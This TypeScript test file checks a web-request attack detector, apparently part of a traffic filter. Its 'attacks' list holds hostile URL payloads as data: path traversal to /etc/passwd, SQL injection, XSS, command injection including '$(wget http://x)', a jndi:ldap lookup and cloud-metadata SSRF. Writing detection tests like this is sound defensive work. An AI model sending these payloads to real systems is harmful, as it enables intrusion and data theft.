import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { FeatureExtractor } from '../../src/detect/features.js';
import { type SignalName, signalNames } from '../../src/detect/signals.js';
import type { RequestView, TrafficClass } from '../../src/detect/view.js';
import { request } from './support.js';

const extractor = new FeatureExtractor();

function signals(view: RequestView): SignalName[] {
  const x = extractor.extract(view);
  return signalNames.filter((_, i) => (x[i] ?? 0) > 0);
}

/** Targets, and signals that must be among theirs. */
const attacks: readonly (readonly [string, ...SignalName[]])[] = [
  ['/../../etc/passwd', 'traversal', 'system-file'],
  ['/static/..%2f..%2fetc/passwd', 'traversal', 'hidden-traversal'],
  ['/x/%252e%252e/%252e%252e/win.ini', 'traversal', 'hidden-traversal', 'double-encoding', 'system-file'],
  ['/x/%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini', 'traversal', 'broken-encoding', 'system-file'],
  ['/?f=../../../../etc/hosts', 'traversal', 'system-file'],
  ['/?f=c:%5Cwindows%5Cx', 'system-file'],
  ['/x%00.html', 'control-bytes'],
  ['/?u=x%0d%0aSet-Cookie:a=b', 'line-breaks'],
  ['/?q=%3Cscript%3Ealert(1)%3C/script%3E', 'markup', 'script'],
  ['/?q=%22%20onmouseover=alert(document.domain)%20', 'script'],
  ['/?q=javascript:alert(1)', 'script'],
  ['/?q=<svg/onload=x>', 'markup', 'raw-delimiters'],
  ["/?id=1'%20union%20all%20select%20null,version()--%20", 'sql-words', 'sql-call', 'sql-comment'],
  ['/?id=1%20and%20sleep(5)', 'sql-call'],
  ["/?id=1'%20or%20'1'='1", 'sql-logic'],
  ['/?id=1)%20or%201=1', 'sql-logic'],
  ['/?t=(select%20table_name%20from%20information_schema.tables)', 'sql-words', 'sql-call'],
  ['/?h=127.0.0.1;cat%20/etc/passwd', 'command', 'system-file'],
  ['/?h=%7Cid', 'command'],
  ['/?h=$(wget%20http://x)', 'command'],
  ['/?q=%7B%7B7*7%7D%7D', 'template'],
  ['/?q=$%7Bjndi:ldap://x/y%7D', 'template', 'java', 'remote-url'],
  ['/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%29%7D/', 'template', 'java'],
  ['/?page=php://filter/convert', 'remote-url'],
  ['/?x=phpinfo()', 'php-code'],
  ['/?u=http://169.254.169.254/latest/meta-data', 'remote-url'],
  ['/?__proto__[x]=1', 'object-injection'],
  ['/?cmd=id', 'foreign-parameter'],
  ['/?-d+allow_url_include', 'foreign-parameter'],
  ['/index.php', 'foreign-script'],
  ['/a/b.aspx/c', 'foreign-script'],
  ['/x.jsp;jsessionid=1', 'foreign-script'],
  ['/wp-login.php', 'foreign-script', 'foreign-product'],
  ['/cgi-bin/test', 'foreign-product'],
  ['/_vti_bin/owssvr.dll', 'foreign-product', 'foreign-script'],
  ['/components/com_foo/', 'foreign-product'],
  ['/.env', 'dotfile'],
  ['/.git/config', 'dotfile'],
  ['/web.config', 'secret-file'],
  ['/index.html.bak', 'backup-copy'],
  ['/config.php~', 'backup-copy'],
  ['/admin_old/', 'admin-word'],
  ['/actuator/heapdump', 'debug-page'],
  ['/~root', 'home-folder'],
];

test('each kind of attack has its signals', () => {
  for (const [target, ...expected] of attacks) {
    const found = signals(request(target));
    for (const name of expected)
      assert.ok(found.includes(name), `${target}: ${found.join(', ')} without ${name}`);
  }
});

/** Honest targets without any signal. */
const honest: readonly string[] = [
  '/',
  '/docs/3f2b8a44-9d3e-4d59-8a57-0c2f1d0f7b11/',
  '/_next/static/chunks/main-0f1e2d3c4b5a6978.js',
  '/.well-known/openid-configuration',
  '/api/v1.0/documents/?page=1&ordering=-updated_at',
  '/search?q=bonjour+%C3%A0+tous,+%C3%A7a+va+%3F',
  "/search?q=l'h%C3%B4tel+de+ville",
  '/search?q=rock+%26+roll+concert',
  '/search?q=price+%3C+100+and+size+%3E+40',
  '/oauth2/auth?redirect_uri=https%3A%2F%2Fdocs.box.example%2Fapi%2Fcallback%2F&scope=openid+email',
  '/api/v1/query?query=sum(rate(http_requests_total%7Bstatus%3D~%225..%22%7D%5B5m%5D))',
  '/cool/https%3A%2F%2Fdrive.box.example%2Fwopi%2Ffiles%2F1/ws',
  '/x?next=%2Fa%3Fb%3D%252Fc',
];

test('honest requests have none', () => {
  for (const target of honest) assert.equal(signals(request(target)), [], target);
});

test('plain prose is prose, whatever its words', () => {
  for (const text of [
    'select a colour from the table',
    'the union of workers',
    'drop me a line',
    'who or what',
  ])
    assert.not.ok(
      extractor.extract(request(`/search?q=${encodeURIComponent(text)}`)).some((value) => value > 0.25),
      text,
    );
});

test('queries are read: an attack in one is an attack', () => {
  assert.ok(signals(request('/search?q=1%27%20union%20select%20password%20from%20users--%20')).length > 2);
});

test('names that users chose say nothing where they choose names', () => {
  const names = [
    '/bucket/wp-admin/index.php',
    '/org/repo/src/branch/main/.env',
    '/a/b/web.config',
    '/a/b/shell.jsp',
  ];
  for (const trafficClass of ['s3', 'git', 'caldav', 'matrix', 'websocket'] as TrafficClass[])
    for (const name of names)
      assert.equal(signals(request(name, { trafficClass })), [], `${trafficClass} ${name}`);
  assert.ok(
    signals(request('/.env', { trafficClass: 'git' })).includes('dotfile'),
    'at the root nobody does',
  );
  assert.equal(signals(request('/.env', { trafficClass: 's3' })), []);
  assert.ok(signals(request('/a/..%2f..%2fetc/passwd', { trafficClass: 's3' })).includes('traversal'));
});

test('methods of WebDAV are odd for browsers only', () => {
  assert.ok(signals(request('/', { method: 'PROPFIND' })).includes('odd-method'));
  assert.equal(signals(request('/', { method: 'PROPFIND', trafficClass: 'caldav' })), []);
  assert.ok(signals(request('/', { method: 'TRACE', trafficClass: 'caldav' })).includes('odd-method'));
});

test('the hash of a path depends on all of it, and not on the query', () => {
  const hash = (target: string) => {
    extractor.extract(request(target));
    return extractor.pathHash;
  };
  assert.is(hash('/a?x=1'), hash('/a?x=2'));
  assert.is.not(hash('/a'), hash('/b'));
  const top = new Set(Array.from({ length: 64 }, (_, i) => hash(`/page/${i}`) >>> 26));
  assert.ok(top.size > 30, `${top.size} of 64 values of the upper bits`);
});

test.run();
